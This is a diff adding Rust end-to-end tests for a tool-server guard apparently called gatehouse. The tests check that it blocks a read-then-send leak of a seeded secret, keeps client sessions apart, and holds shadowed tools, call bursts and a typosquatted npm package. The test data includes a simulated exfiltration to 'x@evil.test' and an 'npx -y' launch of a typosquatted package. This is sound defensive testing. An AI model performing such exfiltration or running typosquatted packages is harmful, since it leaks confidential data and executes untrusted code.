@@ -1,0 +1,449 @@
+//! Issue 5 end to end: several real `gatehouse wrap` processes under one
+//! client session, with a real npm reader (`@modelcontextprotocol/server-memory`)
+//! and a small sender (`tests/servers/send_server.py`).
+//!
+//! A client session is the nearest non-launcher ancestor of the wrap
+//! processes (DESIGN §2). Here each "IDE" is `/bin/sh` run through a symlink
+//! named `fake-ide` (so it is not a known launcher): it starts every wrap of
+//! its session in the background, their stdio on named pipes this test
+//! drives. Two fake IDEs are two sessions.
+
+use std::collections::BTreeMap;
+use std::fs::File;
+use std::io::{BufRead, BufReader, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command};
+use std::sync::mpsc::{self, Receiver};
+
+use gatehouse_e2e::{Peers, Sandbox, STEP_TIMEOUT};
+use serde_json::{json, Value};
+
+/// One wrap process's stdio.
+struct Wire {
+    input: File,
+    lines: Receiver<String>,
+    next_id: u64,
+}
+
+impl Wire {
+    fn request(&mut self, method: &str, params: Value) -> Value {
+        self.next_id += 1;
+        let id = self.next_id;
+        let line = json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
+        writeln!(self.input, "{line}").expect("write to wrap");
+        self.input.flush().expect("flush");
+        loop {
+            let line = self
+                .lines
+                .recv_timeout(STEP_TIMEOUT)
+                .unwrap_or_else(|_| panic!("no answer to {method} within {STEP_TIMEOUT:?}"));
+            let v: Value = serde_json::from_str(&line).expect("wrap prints JSON");
+            if v["id"] == json!(id) {
+                return v;
+            }
+        }
+    }
+
+    fn notify(&mut self, method: &str) {
+        writeln!(
+            self.input,
+            "{}",
+            json!({"jsonrpc": "2.0", "method": method})
+        )
+        .unwrap();
+        self.input.flush().unwrap();
+    }
+
+    fn start(&mut self) -> Value {
+        let init = self.request(
+            "initialize",
+            json!({"protocolVersion": "2025-06-18", "capabilities": {},
+                   "clientInfo": {"name": "cross-e2e", "version": "1"}}),
+        );
+        self.notify("notifications/initialized");
+        init
+    }
+
+    fn list(&mut self) -> Vec<String> {
+        let v = self.request("tools/list", json!({}));
+        v["result"]["tools"]
+            .as_array()
+            .map(|t| {
+                t.iter()
+                    .filter_map(|t| t["name"].as_str().map(String::from))
+                    .collect()
+            })
+            .unwrap_or_default()
+    }
+
+    fn call(&mut self, tool: &str, args: Value) -> Value {
+        let v = self.request("tools/call", json!({"name": tool, "arguments": args}));
+        v["result"].clone()
+    }
+}
+
+fn blocked_by(result: &Value) -> Option<String> {
+    if result["isError"] != true {
+        return None;
+    }
+    let text = gatehouse_e2e::result_text(result);
+    let rule = text.split("(rule ").nth(1)?.split(')').next()?;
+    Some(format!("{rule}: {text}"))
+}
+
+/// A fake IDE: one shell process whose background children are the wraps.
+struct Ide {
+    shell: Child,
+    wires: BTreeMap<String, Wire>,
+}
+
+impl Drop for Ide {
+    fn drop(&mut self) {
+        self.wires.clear(); // EOF to every wrap: they end their servers
+        let deadline = std::time::Instant::now() + STEP_TIMEOUT;
+        while std::time::Instant::now() < deadline {
+            if let Ok(Some(_)) = self.shell.try_wait() {
+                return;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+        let _ = self.shell.kill();
+    }
+}
+
+fn quote(arg: &str) -> String {
+    format!("'{}'", arg.replace('\'', "'\\''"))
+}
+
+fn fake_ide_bin(dir: &Path) -> PathBuf {
+    let link = dir.join("fake-ide");
+    if !link.exists() {
+        std::os::unix::fs::symlink("/bin/sh", &link).expect("symlink fake-ide");
+    }
+    link
+}
+
+/// Starts one session with `servers` (id, argv, pass_env).
+fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Ide {
+    let dir = sb.path().join(name);
+    std::fs::create_dir_all(&dir).unwrap();
+    let mut script = String::new();
+    for (id, argv, pass) in servers {
+        for side in ["in", "out"] {
+            let fifo = dir.join(format!("{id}.{side}"));
+            let ok = Command::new("mkfifo").arg(&fifo).status().unwrap();
+            assert!(ok.success(), "mkfifo {}", fifo.display());
+        }
+        let wrap: Vec<String> = sb
+            .wrap_argv(id, pass, argv)
+            .iter()
+            .map(|a| quote(a))
+            .collect();
+        script += &format!(
+            "{} <{} >{} &\n",
+            wrap.join(" "),
+            quote(&dir.join(format!("{id}.in")).display().to_string()),
+            quote(&dir.join(format!("{id}.out")).display().to_string())
+        );
+    }
+    script += "wait\n";
+    let shell = Command::new(fake_ide_bin(sb.path()))
+        .arg("-c")
+        .arg(script)
+        .envs(sb.envs())
+        .env("MEMORY_FILE_PATH", dir.join("memory.jsonl"))
+        .spawn()
+        .expect("start the fake IDE");
+    let mut wires = BTreeMap::new();
+    for (id, _, _) in servers {
+        let input = File::options()
+            .write(true)
+            .open(dir.join(format!("{id}.in")))
+            .unwrap();
+        let output = File::open(dir.join(format!("{id}.out"))).unwrap();
+        let (tx, rx) = mpsc::channel();
+        std::thread::spawn(move || {
+            for line in BufReader::new(output).lines() {
+                let Ok(line) = line else { break };
+                if tx.send(line).is_err() {
+                    break;
+                }
+            }
+        });
+        wires.insert(
+            id.to_string(),
+            Wire {
+                input,
+                lines: rx,
+                next_id: 0,
+            },
+        );
+    }
+    Ide { shell, wires }
+}
+
+impl Ide {
+    fn wire(&mut self, id: &str) -> &mut Wire {
+        self.wires.get_mut(id).expect("a wrap of this session")
+    }
+}
+
+fn memory(peers: &Peers) -> Vec<String> {
+    vec![
+        "node".into(),
+        peers
+            .dir
+            .join("npm/node_modules/@modelcontextprotocol/server-memory/dist/index.js")
+            .display()
+            .to_string(),
+    ]
+}
+
+const SECRET: &str = "acquisition code name BLUEHERON-7731 for the board only";
+
+/// The memory server holds a secret; its `read_graph` returns it.
+fn seed_and_read(w: &mut Wire) -> String {
+    let created = w.call(
+        "create_entities",
+        json!({"entities": [{"name": "memo", "entityType": "doc", "observations": [SECRET]}]}),
+    );
+    assert_eq!(blocked_by(&created), None, "a write on one server passes");
+    let read = w.call("read_graph", json!({}));
+    let text = gatehouse_e2e::result_text(&read);
+    assert!(
+        text.contains("BLUEHERON-7731"),
+        "the reader returned the secret: {text}"
+    );
+    text
+}
+
+fn events_of(sb: &Sandbox, kind: &str) -> Vec<Value> {
+    sb.events()
+        .into_iter()
+        .filter(|e| e["type"] == kind)
+        .collect()
+}
+
+#[test]
+fn linked_exfiltration_is_blocked_and_an_unrelated_send_alerts() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    let mut ide = ide(
+        &sb,
+        "ide",
+        &[
+            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
+            ("mailer", peers.py_server("send_server.py", &[]), &[]),
+        ],
+    );
+    for id in ["memory", "mailer"] {
+        ide.wire(id).start();
+        assert!(!ide.wire(id).list().is_empty());
+    }
+    seed_and_read(ide.wire("memory"));
+    let leak = ide.wire("mailer").call(
+        "send_message",
+        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
+    );
+    let why = blocked_by(&leak).expect("the linked send is blocked");
+    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
+    let fine = ide.wire("mailer").call(
+        "send_message",
+        json!({"to": "team@corp.test", "body": "standup moved to 10"}),
+    );
+    assert_eq!(blocked_by(&fine), None, "an unrelated send passes");
+    drop(ide);
+
+    let blocked = events_of(&sb, "mcp_cross_server_blocked");
+    assert_eq!(blocked.len(), 1, "one block event: {blocked:?}");
+    let b = &blocked[0];
+    assert_eq!(
+        (
+            b["rule"].as_str(),
+            b["severity"].as_str(),
+            b["server"].as_str()
+        ),
+        (
+            Some("cross_server.read_then_send"),
+            Some("critical"),
+            Some("mailer")
+        )
+    );
+    let evidence = b["evidence"].to_string();
+    assert!(
+        evidence.contains("read_graph") && evidence.contains("memory"),
+        "{evidence}"
+    );
+    assert!(
+        !evidence.contains("BLUEHERON"),
+        "evidence is redacted: {evidence}"
+    );
+    let alerts = events_of(&sb, "mcp_cross_server_alert");
+    assert_eq!(
+        alerts.len(),
+        1,
+        "the unrelated send is an alert: {alerts:?}"
+    );
+    let db = std::fs::read(sb.gatehouse_home().join("gatehouse.db")).unwrap();
+    assert!(
+        !db.windows(14).any(|w| w == b"BLUEHERON-7731"),
+        "the secret is not stored in the database file"
+    );
+}
+
+#[test]
+fn two_client_sessions_do_not_see_each_other() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    let mut a = ide(
+        &sb,
+        "ide-a",
+        &[("memory", memory(&peers), &["MEMORY_FILE_PATH"])],
+    );
+    let mut b = ide(
+        &sb,
+        "ide-b",
+        &[("mailer", peers.py_server("send_server.py", &[]), &[])],
+    );
+    a.wire("memory").start();
+    b.wire("mailer").start();
+    seed_and_read(a.wire("memory"));
+    let sent = b
+        .wire("mailer")
+        .call("send_message", json!({"body": "code name BLUEHERON-7731"}));
+    assert_eq!(blocked_by(&sent), None, "another IDE's read does not count");
+    drop((a, b));
+    assert!(events_of(&sb, "mcp_cross_server_blocked").is_empty());
+    assert!(events_of(&sb, "mcp_cross_server_alert").is_empty());
+}
+
+#[test]
+fn shadowed_tool_names_are_held_unless_the_same_server() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    let twin = peers.py_server("send_server.py", &["--name", "twin"]);
+    let mut ide = ide(
+        &sb,
+        "ide",
+        &[
+            ("mailer", peers.py_server("send_server.py", &[]), &[]),
+            ("twin", twin.clone(), &[]),
+            ("twin-copy", twin, &[]),
+        ],
+    );
+    for id in ["mailer", "twin", "twin-copy"] {
+        ide.wire(id).start();
+        assert_eq!(ide.wire(id).list(), ["send_message"]);
+    }
+    // mailer and twin: first seen in one start-up → both held.
+    for id in ["mailer", "twin"] {
+        let r = ide.wire(id).call("send_message", json!({"body": "hi"}));
+        let why = blocked_by(&r).unwrap_or_else(|| panic!("{id}'s shadowed call is held"));
+        assert!(
+            why.starts_with("cross_server.shadowing") && why.contains("neither is older"),
+            "{why}"
+        );
+    }
+    drop(ide);
+    let held: Vec<Value> = events_of(&sb, "mcp_cross_server_blocked")
+        .into_iter()
+        .filter(|e| e["action"] == "hold")
+        .collect();
+    assert_eq!(held.len(), 2, "{held:?}");
+}
+
+#[test]
+fn same_launch_command_is_not_a_shadow() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    let argv = peers.py_server("send_server.py", &[]);
+    let mut ide = ide(
+        &sb,
+        "ide",
+        &[("one", argv.clone(), &[]), ("two", argv, &[])],
+    );
+    for id in ["one", "two"] {
+        ide.wire(id).start();
+        ide.wire(id).list();
+    }
+    for id in ["one", "two"] {
+        let r = ide.wire(id).call("send_message", json!({"body": "hi"}));
+        assert_eq!(
+            blocked_by(&r),
+            None,
+            "{id}: two entries of one command are one server"
+        );
+    }
+}
+
+#[test]
+fn a_burst_is_cooled_down_with_the_remaining_time() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    std::fs::create_dir_all(sb.gatehouse_home()).unwrap();
+    std::fs::write(
+        sb.gatehouse_home().join("policy.toml"),
+        "[cross_server.burst]\nmax_calls = 3\nwindow_secs = 60\ncooldown_secs = 120\n",
+    )
+    .unwrap();
+    let mut ide = ide(
+        &sb,
+        "ide",
+        &[(
+            "notes",
+            peers.py_server("send_server.py", &["read_note"]),
+            &[],
+        )],
+    );
+    ide.wire("notes").start();
+    ide.wire("notes").list();
+    for i in 0..3 {
+        let r = ide
+            .wire("notes")
+            .call("read_note", json!({"text": format!("n{i}")}));
+        assert_eq!(blocked_by(&r), None, "call {i} is within the burst");
+    }
+    for _ in 0..2 {
+        let r = ide
+            .wire("notes")
+            .call("read_note", json!({"text": "again"}));
+        let why = blocked_by(&r).expect("the burst is cooled down");
+        assert!(why.starts_with("cross_server.burst"), "{why}");
+        assert!(
+            why.contains("s more"),
+            "the answer says the remaining cool-down: {why}"
+        );
+    }
+}
+
+#[test]
+fn a_typosquatted_package_is_held_before_it_runs() {
+    let sb = Sandbox::new();
+    let argv: Vec<String> = [
+        "npx",
+        "-y",
+        "@modelcontextprotocol/server-filesystam",
+        "/tmp",
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect();
+    let mut ide = ide(&sb, "ide", &[("files", argv, &[])]);
+    let init = ide.wire("files").start();
+    let message = init["error"]["message"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(
+        message.contains("cross_server.typosquat.package") || message.contains("filesystem"),
+        "initialize is refused naming the rule: {init}"
+    );
+    drop(ide);
+    let similar = events_of(&sb, "mcp_server_name_similarity");
+    assert!(
+        similar
+            .iter()
+            .any(|e| e["severity"] == "high" && e["action"] == "hold"),
+        "{similar:?}"
+    );
+}
